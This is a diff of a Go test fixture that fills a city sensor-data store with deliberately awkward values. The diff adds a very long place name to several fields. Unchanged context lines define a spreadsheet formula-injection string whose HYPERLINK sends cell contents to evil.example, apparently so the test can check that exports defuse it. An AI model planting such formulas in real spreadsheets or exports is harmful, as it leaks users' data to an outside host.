@@ -105,6 +105,9 @@ var dusk = time.Date(2026, 3, 29, 20, 0, 0, 0, time.UTC)
 // formula would be run by a spreadsheet.
 const formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`
 
+// long is a name that no line holds.
+var long = strings.Repeat("Llanfairpwllgwyngyllgogerychwyrndrobwll", 3)
+
 // fill writes books of a city that is as awkward as books can be, and two days of
 // observations around a night of 23 hours.
 func (q *plaza) fill() {
@@ -118,7 +121,7 @@ func (q *plaza) fill() {
 	put("city.json", books.City{ID: "portalba", Name: "Portalba", Timezone: "Europe/Madrid", Languages: []string{"ca"}, Policy: "sha256:00"})
 	put("streams.json", []books.Stream{
 		{
-			ID: "steps", Title: map[string]string{"en": formula, "ca": "Passos <b>&amp;"}, Every: "PT1H", Timezone: "Europe/Madrid", Unit: "device",
+			ID: "steps", Title: map[string]string{"en": formula, "ca": "Passos <b>&amp; " + long}, Every: "PT1H", Timezone: "Europe/Madrid", Unit: "device",
 			Measures: []books.Measure{{Name: "devices", Unit: "device", Of: "distinct(unit)", PublicFrom: 47, TypicalError: 6}},
 			Cells:    []books.Cell{{ID: "a/bike", Zone: "a", Category: "bike"}, {ID: "a/foot", Zone: "a", Category: "foot"}, {ID: "b/foot", Zone: "b", Category: "foot"}},
 			Decision: "1", From: "2026-01-01", Until: "2026-12-31", Licence: "CC-BY-4.0", Plan: "sha256:01",
@@ -136,11 +139,11 @@ func (q *plaza) fill() {
 	alive := true
 	put("register.json", books.Register{Sensors: []books.Sensor{
 		{ID: "s-1", Owner: "@acme", Kind: "counter", Topic: "city/v1/acme/s-1/up", Zone: "a", Registered: "2026-01-01", Contact: "-2+3", Purpose: map[string]string{"en": "\tcount"}, Alive: &alive, Fields: []books.Field{{Name: "device", Class: "identifier", Fate: "counted", Decision: "1"}, {Name: "note", Class: "free-text", Fate: "dropped"}}},
-		{ID: "s-2", Owner: "acme", Kind: "meter", Zone: "b", Registered: "2026-01-01", Fields: []books.Field{{Name: "laeq", Class: "measurement", Fate: "kept", Decision: "2"}}},
+		{ID: "s-2", Owner: long, Kind: "meter", Zone: "b", Registered: "2026-01-01", Fields: []books.Field{{Name: "laeq", Class: "measurement", Fate: "kept", Decision: "2"}}},
 	}, Homes: []books.Homes{{Kind: "meter", Zone: "b", Number: 12}}})
 	if err := q.books.Put("zones.geojson", []byte(`{"type":"FeatureCollection","features":[
 {"type":"Feature","id":"a","properties":{"name":"Àrea <A>"},"geometry":{"type":"Polygon","coordinates":[[[2.1,41.3],[2.2,41.3],[2.2,41.4],[2.1,41.4],[2.1,41.3]]]}},
-{"type":"Feature","id":"b","properties":{"name":"=B"},"geometry":{"type":"MultiPolygon","coordinates":[[[[2.2,41.3],[2.3,41.3],[2.3,41.4],[2.2,41.3]]]]}}]}`)); err != nil {
+{"type":"Feature","id":"b","properties":{"name":"=B `+long+`"},"geometry":{"type":"MultiPolygon","coordinates":[[[[2.2,41.3],[2.3,41.3],[2.3,41.4],[2.2,41.3]]]]}}]}`)); err != nil {
 		q.t.Fatal(err)
 	}
 	var ledger bytes.Buffer
